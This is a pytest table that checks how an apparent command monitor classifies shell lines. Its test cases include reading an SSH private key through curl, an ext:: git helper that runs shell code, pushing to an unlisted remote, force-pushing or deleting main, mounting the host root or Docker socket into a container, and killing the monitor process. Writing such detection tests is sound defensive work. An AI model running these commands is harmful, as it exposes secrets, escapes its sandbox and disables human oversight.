"""Other machines, third-party code, other processes."""

import pytest

from tests.interposer.judging import effects, judge

pytestmark = pytest.mark.suite("unfold")

TABLE = {
    "url": ("curl x.example", ["fetch x.example recorded"]),
    "this-machine": ("curl http://localhost:8080/x", ["fetch:harmless http://localhost:8080/x"]),
    "file-url": ("curl file:///home/u/.ssh/id_rsa", ["read /home/u/.ssh/id_rsa @secret dangerous"]),
    "ssh": ("ssh host uptime", ["escape ssh recorded", "fetch host recorded", "run uptime job"]),
    "ssh-here": ("ssh localhost id", ["escape ssh recorded", "escape:machine localhost hard", "run id job"]),
    "ssh-here-with-user": ("ssh me@127.0.0.1", ["escape ssh recorded", "escape:machine me@127.0.0.1 hard"]),
    "helper": ("git clone 'ext::sh -c id'", ["run sh -c id by git ext:: dangerous", "run id job"]),
    "clone": ("git clone https://x.example/r", ["fetch https://x.example/r recorded"]),
    "push": ("git push origin x", ["publish origin recorded", "publish x recorded"]),
    "push-force-own": (
        "git push --force origin x",
        ["publish --force via option by --force recorded", "publish origin recorded", "publish x recorded"],
    ),
    "push-force-main": (
        "git push -f origin main",
        ["publish -f via option by -f recorded", "publish origin recorded", "publish:protected-branch main dangerous"],
    ),
    "push-plus-main": (
        "git push origin +main",
        ["publish origin recorded", "publish:protected-branch +main dangerous"],
    ),
    "push-delete-main": (
        "git push origin :main",
        ["publish origin recorded", "publish:protected-branch :main dangerous"],
    ),
    "push-to-url": (
        "git push https://x.example/r x",
        ["send:unlisted-remote https://x.example/r dangerous", "publish x recorded"],
    ),
    "index": (
        "pip install --index-url https://x.example/s a",
        ["install:index https://x.example/s via option by --index-url dangerous", "install a recorded"],
    ),
    "listed-index": (
        "pip install --index-url https://pypi.org/simple a",
        ["install https://pypi.org/simple via option by --index-url recorded", "install a recorded"],
    ),
    "package": ("pip install a", ["install a recorded"]),
    "mount-root": (
        "docker run -v /:/host a",
        ["escape run by run recorded", "escape:machine /:/host @root whole via option by -v hard"],
    ),
    "mount-project": (
        'docker run -v "$PWD:/w" a',
        ["escape run by run recorded", "escape $PWD:/w @project whole via option by -v recorded"],
    ),
    "mount-engine": (
        "docker run -v /var/run/docker.sock:/s a",
        ["escape run by run recorded", "escape:machine /var/run/docker.sock:/s @system via option by -v hard"],
    ),
    "mount-secrets": (
        "docker run --mount type=bind,source=/home/u/.ssh,target=/s a",
        [
            "escape run by run recorded",
            "escape:local type=bind,source=/home/u/.ssh,target=/s @secret via option by --mount dangerous",
        ],
    ),
    "kill-self": ("pkill interposer", ["tamper interposer hard"]),
    "kill-self-by-pattern": ("pkill -f 'inter.*'", ["tamper inter.* hard"]),
    "kill-other": ("pkill -f node", []),
    "kill-self-by-substitution": ("kill $(pgrep interposer)", ["tamper $(pgrep interposer) hard"]),
}


@pytest.mark.parametrize(("line", "expected"), TABLE.values(), ids=TABLE)
def test_what_a_command_reaches(line, expected) -> None:
    """Ordinary work is recorded; what comes back here, rewrites or is not listed is not."""
    assert effects(judge(line)) == expected
